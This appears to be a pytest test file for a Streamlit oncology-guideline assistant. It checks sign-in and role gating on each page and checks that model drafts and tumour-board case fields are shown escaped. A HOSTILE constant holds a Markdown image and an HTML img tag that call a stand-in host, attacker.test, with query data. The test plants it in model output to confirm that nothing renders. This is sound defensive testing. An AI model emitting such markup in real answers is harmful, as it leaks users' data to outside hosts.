"""Sign-in on: no page script shows anything without a signed-in user allowed to open it,
whichever way it is run (AppTest); and outside text reaches Streamlit escaped."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest
from conftest import PROJECT
from fakes import ScriptedModel  # noqa: F401  (registers the scripted backend)
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest
from streamlit.util import calc_hash

from app.services import USER_KEY
from rag.review.access import User, UserDirectory

MAIN = str(PROJECT / "app" / "main.py")
VIEWS = PROJECT / "app" / "views"
PASSWORD = "a long enough password"
# Each page script, the title it shows when it runs and the permission it needs.
PAGES = {
    "ask": ("Ask the guidelines", "ask"),
    "saved": ("Saved answers", "read"),
    "cases": ("Tumour-board cases", "ask"),
    "board": ("Board view", "read"),
    "corpus": ("Corpus", "corpus"),
    "validation": ("Validation", "validate"),
    "audit": ("Audit trail", "audit"),
}
HOSTILE = "![chart](http://attacker.test/leak.png?q=dose) <img src=http://attacker.test/i.png>"


@pytest.fixture
def seeded(corpus_home: Path, monkeypatch) -> Path:
    """Sign-in on, one account, one verified answer and one case on record."""
    monkeypatch.setenv("ONCOGUIDE_LLM_BACKEND", "scripted")
    monkeypatch.setenv("ONCOGUIDE_MAX_SOURCE_AGE_YEARS", "50")
    from rag.assistant import Assistant
    from rag.config import load_settings
    from rag.review.board import CaseInput
    from rag.review.store import RecordStore
    from rag.types import Review

    answer = Assistant(load_settings()).evidence(
        Assistant(load_settings()).retrieve("What is the pegfilgrastim dose?")
    )
    store = RecordStore(corpus_home / "records.sqlite3")
    store.save_verified(answer, Review(True, "Dr Hidden", "SECRETANSWER 6 mg [1]."))
    store.create_case(CaseInput("Board 7 SECRETCASE", "Colon cancer", "stage III"), "Dr Hidden")
    UserDirectory(corpus_home / "users.yaml").add("rita", "Rita Reviewer", PASSWORD, ("reviewer",))
    monkeypatch.setenv("ONCOGUIDE_SIGN_IN", "true")
    return corpus_home


def everything_shown(at: AppTest) -> str:
    """Every piece of text the run put on the page, data frames included."""
    parts = [str(e.value) for e in at.main if hasattr(e, "value")]
    parts += [e.label for e in at.main if hasattr(e, "label")]
    parts += [df.value.to_string() for df in at.dataframe]
    return " ".join(parts)


def test_a_page_run_directly_shows_nothing_without_a_user_allowed_to_open_it(
    seeded: Path,
) -> None:
    reviewer = User("rita", "Rita Reviewer", ("reviewer",))
    for name, (title, needs) in PAGES.items():
        at = AppTest.from_file(str(VIEWS / f"{name}.py"), default_timeout=180).run()
        assert not at.exception, at.exception
        assert [e.value for e in at.error] == ["Sign in first."], name
        shown = everything_shown(at)
        assert title not in shown and "SECRET" not in shown and "Dr Hidden" not in shown, name
        assert not at.button and not at.text_area and not at.dataframe and not at.title, name
        if reviewer.can(needs):
            continue
        at = AppTest.from_file(str(VIEWS / f"{name}.py"), default_timeout=180)
        at.session_state[USER_KEY] = reviewer
        at.run()
        assert not at.exception, at.exception
        assert [e.value for e in at.error] == ["Your role does not open this page."], name
        assert not at.button and not at.dataframe and not at.title, name
    # The same direct run with a user the page allows shows it: the checks above can fail.
    at = AppTest.from_file(str(VIEWS / "audit.py"), default_timeout=180)
    at.session_state[USER_KEY] = reviewer
    at.run()
    assert not at.exception and at.title[0].value == "Audit trail"


def test_no_address_opens_a_page_before_sign_in(seeded: Path) -> None:
    at = AppTest.from_file(MAIN, default_timeout=180).run()
    assert not at.exception, at.exception
    for name, (title, _) in PAGES.items():
        # What a browser opening /NAME asks for (switch_page only knows registered files).
        at._page_hash = calc_hash(name)
        at.run()
        assert not at.exception, at.exception
        shown = everything_shown(at)
        assert title not in shown and "SECRET" not in shown, name
        assert [t.label for t in at.text_input] == ["Username", "Password"], name
        assert [b.label for b in at.button] == ["Sign in"], name
    # Signing in at an address opens that page when the role allows it.
    at.text_input[0].input("rita")
    at.text_input[1].input(PASSWORD)
    at.button[0].click().run()
    assert not at.exception, at.exception
    assert at.title[0].value == "Audit trail"


def test_signing_out_closes_every_page_again(seeded: Path) -> None:
    at = AppTest.from_file(MAIN, default_timeout=180).run()
    at.text_input[0].input("rita")
    at.text_input[1].input(PASSWORD)
    at.button[0].click().run()
    assert at.title[0].value == "Saved answers"
    next(b for b in at.sidebar.button if b.label == "Sign out").click().run()
    assert not at.exception, at.exception
    at._page_hash = calc_hash("saved")
    at.run()
    assert not at.title and "SECRET" not in everything_shown(at)
    assert USER_KEY not in at.session_state


MARKDOWN = MarkdownIt("commonmark")


def markdown_kinds(text: str) -> set[str]:
    kinds = set()
    for token in MARKDOWN.parse(text):
        kinds.add(token.type)
        kinds.update(child.type for child in token.children or [])
    return kinds


def test_a_streamed_draft_and_its_answer_are_shown_as_text(corpus_home: Path, monkeypatch):
    """The model's draft carries a Markdown image and raw HTML: every Markdown element the
    Ask page sends holds text only (markdown-it finds no image, link or HTML in it)."""
    monkeypatch.setenv("ONCOGUIDE_LLM_BACKEND", "scripted")
    monkeypatch.setenv("ONCOGUIDE_ANSWER_MODE", "generated")  # the model's draft, flags and all
    monkeypatch.setenv("ONCOGUIDE_MAX_SOURCE_AGE_YEARS", "50")
    ScriptedModel.reply = f"Pegfilgrastim 6 mg once per cycle [1]. {HOSTILE}"
    at = AppTest.from_file(MAIN, default_timeout=180).run()
    at.text_area[0].input("What is the pegfilgrastim dose?")
    at.button(key="FormSubmitter:ask-Ask").click().run()
    assert not at.exception, at.exception
    plain = [m.value for m in at.markdown if not m.allow_html]
    answer = [v for v in plain if "leak" in v]
    assert answer, plain  # the draft is on the page…
    for value in plain:  # …and no Markdown element on it is anything but text
        assert not markdown_kinds(value) & {"image", "html_inline", "html_block"}, value
        links = [t for t in MARKDOWN.parseInline(value) for t in t.children or []]
        hrefs = [t.attrGet("href") for t in links if t.type == "link_open"]
        assert all(str(h).startswith("#source-") for h in hrefs), value
    for value in [m.value for m in at.markdown if m.allow_html]:
        assert "<img" not in value and "<script" not in value.lower()


def test_case_fields_are_shown_as_text(corpus_home: Path, monkeypatch) -> None:
    monkeypatch.setenv("ONCOGUIDE_LLM_BACKEND", "scripted")
    from rag.review.board import CaseInput
    from rag.review.store import RecordStore

    RecordStore(corpus_home / "records.sqlite3").create_case(
        CaseInput("Board 2 ![x](http://127.0.0.1:9/l.png)", "Colon cancer", "III", HOSTILE),
        "Dr Lin",
    )
    at = AppTest.from_file(MAIN, default_timeout=180).run()
    at.switch_page("views/board.py").run()
    assert not at.exception, at.exception
    for value in [at.title[0].value] + [m.value for m in at.markdown if not m.allow_html]:
        assert not markdown_kinds(value) & {"image", "link_open", "html_inline", "html_block"}
    assert "leak" in " ".join(m.value for m in at.markdown)
    db = sqlite3.connect(corpus_home / "records.sqlite3")
    assert db.execute("SELECT COUNT(*) FROM cases").fetchone()[0] == 1
